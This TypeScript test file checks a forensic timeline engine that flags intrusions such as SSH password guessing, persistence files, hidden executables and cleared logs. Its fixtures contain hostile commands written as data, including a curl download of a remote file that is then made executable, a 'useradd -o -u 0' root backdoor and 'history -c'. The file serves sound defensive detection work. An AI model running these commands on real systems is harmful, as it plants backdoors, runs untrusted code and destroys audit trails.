import { TimelineRules } from '../../domain/findings-from-timeline';

const START = Date.UTC(2026, 1, 17, 2, 0, 0) * 1000;
const minute = (count: number) => START + count * 60_000_000;

const log = (minutes: number, reporter: string, message: string, file = '/var/log/secure') => ({
  data_type: 'syslog:line',
  display_name: `XFS:${file}`,
  message_body: message,
  reporter,
  timestamp: minute(minutes),
  timestamp_desc: 'Content Modification Time',
});
const stat = (minutes: number, filename: string, rest: Record<string, unknown> = {}) => ({
  data_type: 'fs:stat',
  file_entry_type: 'file',
  file_size: 10,
  filename,
  mode: 0o644,
  timestamp: minute(minutes),
  timestamp_desc: 'Content Modification Time',
  ...rest,
});
const shell = (minutes: number, command: string) => ({
  data_type: 'bash:history:entry',
  command,
  display_name: 'XFS:/root/.bash_history',
  timestamp: minute(minutes),
});
const MONTH = 30 * 24 * 60;
const firstBoot = stat(-MONTH, '/etc/machine-id');

function found(...events: unknown[]): string[] {
  const rules = new TimelineRules('vol-1');
  for (const event of events) rules.add(event);
  return rules.findings().map(({ id, severity }) => `${severity} ${id.replace('vol-1-', '')}`);
}

const failed = (minutes: number, user: string, address = '203.0.113.66') =>
  log(minutes, 'sshd', `Failed password for invalid user ${user} from ${address} port 50122 ssh2`);

test('an ordinary server gives no findings', () => {
  expect(
    found(
      firstBoot,
      stat(-MONTH + 1, '/home/ec2-user/.ssh/authorized_keys'),
      stat(-MONTH, '/etc/cron.d/0hourly'),
      stat(-MONTH, '/usr/bin/bash', { mode: 0o755 }),
      stat(0, '/home/ec2-user/.bashrc'),
      stat(0, '/usr/lib64/.libcrypto.so.3.hmac', { mode: 0o644 }),
      stat(0, '/etc/cron.d', { file_entry_type: 'directory' }),
      stat(0, '/var/log/btmp', { file_size: 0 }),
      log(1, 'sshd', 'Accepted publickey for ec2-user from 198.51.100.7 port 50144 ssh2: ED25519 SHA256:abc'),
      log(2, 'sudo', 'ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; USER=root ; COMMAND=/usr/bin/systemctl status app'),
      failed(3, 'admin'),
      shell(4, 'df -h'),
      {
        data_type: 'syslog:cron:task_run',
        command: 'run-parts /etc/cron.hourly',
        username: 'root',
        timestamp: minute(5),
      },
    ),
  ).toEqual([]);
});

test('guessing that succeeds is told from a slip of the fingers', () => {
  const accepted = log(9, 'sshd', 'Accepted password for ec2-user from 203.0.113.66 port 50144 ssh2');
  expect(found(failed(1, 'a'), failed(2, 'b'), failed(3, 'c'), accepted)).toEqual([
    'critical login-after-failures-1',
    'medium login-password-1',
  ]);
  expect(found(failed(1, 'a'), accepted)).toEqual(['medium login-after-failures-1', 'medium login-password-1']);
  // From elsewhere, and the same line in a second log.
  expect(
    found(failed(1, 'a', '198.51.100.1'), accepted, { ...accepted, display_name: 'XFS:/var/log/auth.log' }),
  ).toEqual(['medium login-password-1']);
});

test('guessing that never succeeds is worth little', () => {
  expect(found(...Array.from({ length: 150 }, (_, index) => failed(index, `user${index}`)))).toEqual([
    'low login-guessing-1',
  ]);
});

test('what appears amidst an intrusion weighs more than the same at another time', () => {
  const changes = [stat(6, '/etc/cron.d/x'), stat(7, '/root/.ssh/authorized_keys')];
  expect(found(firstBoot, ...changes)).toEqual(['medium file-persistence-1', 'medium file-authorized-keys-1']);
  expect(found(firstBoot, shell(5, 'useradd -o -u 0 x'), ...changes)).toEqual([
    'critical shell-uid-0-account-1',
    'high file-persistence-1',
    'high file-authorized-keys-1',
  ]);
});

test('hidden and temporary programs, one finding a file', () => {
  const hidden = stat(0, '/usr/local/sbin/.x', { mode: 0o755, sha256_hash: 'ab' });
  const rules = new TimelineRules('vol-1');
  for (const meaning of ['Content Modification Time', 'Creation Time', 'Last Access Time'])
    rules.add({ ...hidden, timestamp_desc: meaning });
  rules.add(stat(1, '/tmp/tool', { mode: 0o755 }));
  expect(rules.findings()).toMatchObject([
    { id: 'vol-1-file-hidden-executable-1', severity: 'high', detail: 'SHA-256 ab.', evidence: { record: 'line 2' } },
    { id: 'vol-1-file-temporary-executable-1', severity: 'medium', time: '2026-02-17T02:01:00.000Z' },
  ]);
});

test('a download that is then made executable; the audit log counts as well', () => {
  const audit = {
    data_type: 'selinux:line',
    audit_type: 'EXECVE',
    display_name: 'XFS:/var/log/audit/audit.log',
    message_body: 'argc=5 a0="curl" a1="-s" a2="http://203.0.113.66/s" a3="-o" a4="/opt/s"',
    timestamp: minute(1),
  };
  expect(found(audit, shell(2, 'chmod +x /opt/s'))).toEqual(['high shell-download-then-execute-1']);
});

test('cleared logs', () => {
  expect(found(firstBoot, stat(0, '/var/log/wtmp', { file_size: 0 }))).toEqual(['low file-empty-log-1']);
  expect(found(firstBoot, shell(1, 'history -c'), stat(2, '/var/log/wtmp', { file_size: 0 }))).toEqual([
    'high shell-clears-tracks-1',
    'medium file-empty-log-1',
  ]);
});

test('lines that are no events are counted and survived, and findings stay few', () => {
  const rules = new TimelineRules('vol-1');
  for (const line of [null, 3, 'x', [], {}, { data_type: 'fs:stat' }, { data_type: 'fs:stat', timestamp: 'x' }])
    rules.add(line);
  rules.add({ ...shell(0, 'history -c'), timestamp: 1e300 });
  for (let index = 0; index < 5000; index++) rules.add(shell(index, `history -c; echo ${index}`));
  expect(rules.events).toBe(5008);
  expect(rules.findings()).toHaveLength(100);
  expect(rules.findings()[0]!.evidence.record).toMatch(/^line \d+$/);
});
